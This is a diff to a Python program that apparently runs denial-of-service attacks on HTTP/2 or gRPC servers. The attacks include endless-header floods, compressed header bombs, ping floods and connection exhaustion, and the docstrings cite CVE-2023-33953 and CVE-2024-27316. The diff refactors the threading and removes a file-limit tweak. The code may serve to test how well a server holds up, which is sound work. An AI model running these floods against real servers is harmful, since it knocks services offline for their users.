@@ -5,13 +5,12 @@ it did, which the program prints. It is a process of its own, so that what it ta
 it takes at the server.
 """
 
+import concurrent.futures
 import contextlib
 import itertools
-import resource
 import select
 import socket
 import sys
-import threading
 import time
 import zlib
 
@@ -50,16 +49,13 @@ BATCH = 100
 MESSAGE_BYTES_MAX = 4 * 1024 * 1024
 
 
-def _again(address, end, attack, sources=SOURCES[:1], **options):
+def _again(address, end, attack, sources=SOURCES[:1]):
     """Runs attack(connection) on a connection after the other, until it is time, each from the
-    next address."""
+    next address. None acknowledges the server's settings, as what it says is not looked at."""
     done, sources = 0, itertools.cycle(sources)
     while time.monotonic() < end:
         source = next(sources)
-        with (
-            contextlib.suppress(OSError),
-            Connection(address, source=source, **options) as connection,
-        ):
+        with contextlib.suppress(OSError), Connection(address, source=source) as connection:
             while time.monotonic() < end:
                 count, goes_on = attack(connection)
                 done += count
@@ -103,32 +99,17 @@ def send_endless_header(connection, end):
     return sent
 
 
-def header_flood(address, end):
+def header_flood(address, end, sources=SOURCES[:1]):
     """Frames of one header that does not end (CVE-2023-33953, CVE-2024-27316)."""
-    return _again(address, end, lambda each: (send_endless_header(each, end), False))
+    return _again(address, end, lambda each: (send_endless_header(each, end), False), sources)
 
 
 def header_flood_of_many(address, end):
     """The same on several connections: each takes a thread of the server's."""
-    done = []
-
-    def flood(source):
-        done.append(
-            _again(
-                address,
-                end,
-                lambda each: (send_endless_header(each, end), False),
-                [source],
-                acknowledges=False,
-            )
-        )
-
-    threads = [threading.Thread(target=flood, args=(each,)) for each in SOURCES[:FEW_CONNECTIONS]]
-    for thread in threads:
-        thread.start()
-    for thread in threads:
-        thread.join()
-    return sum(done)
+    with concurrent.futures.ThreadPoolExecutor(FEW_CONNECTIONS) as pool:
+        sources = SOURCES[:FEW_CONNECTIONS]
+        floods = [pool.submit(header_flood, address, end, [each]) for each in sources]
+        return sum(flood.result() for flood in floods)
 
 
 def bomb(connection, method=GET_STATE):
@@ -143,9 +124,7 @@ def bomb(connection, method=GET_STATE):
 
 def header_bomb(address, end):
     """Metadata that are packed (CVE-2023-33953), of calls that are never ended."""
-    return _again(
-        address, end, lambda each: (1, each.send(bomb(each))), acknowledges=False
-    )
+    return _again(address, end, lambda each: (1, each.send(bomb(each))))
 
 
 def header_bomb_of_many(address, end):
@@ -157,7 +136,7 @@ def header_bomb_of_many(address, end):
             done += 1
         return done
 
-    return _on_few(address, end, begin, acknowledges=False)
+    return _on_few(address, end, begin)
 
 
 def ping_flood(address, end):
@@ -197,7 +176,7 @@ def connections(address, end):
             each.close()
 
 
-def _on_few(address, end, begin, **options):
+def _on_few(address, end, begin):
     """Runs begin(connection) on a few connections, which are held and not read until the end. The
     server may close them; what was begun is counted."""
     held, done = [], 0
@@ -206,11 +185,7 @@ def _on_few(address, end, begin, **options):
             with contextlib.suppress(OSError):
                 held.append(
                     Connection(
-                        address,
-                        receive_bytes=4_096,
-                        source=source,
-                        initial_window_size=0,
-                        **options,
+                        address, receive_bytes=4_096, source=source, initial_window_size=0
                     )
                 )
                 done += begin(held[-1], end)
@@ -373,8 +348,6 @@ ATTACKS = (
 
 def main():
     name, address, seconds = sys.argv[1:]
-    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
-    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     attack = next(each for each in ATTACKS if each.__name__ == name)
     print(attack(address, time.monotonic() + float(seconds)))
 
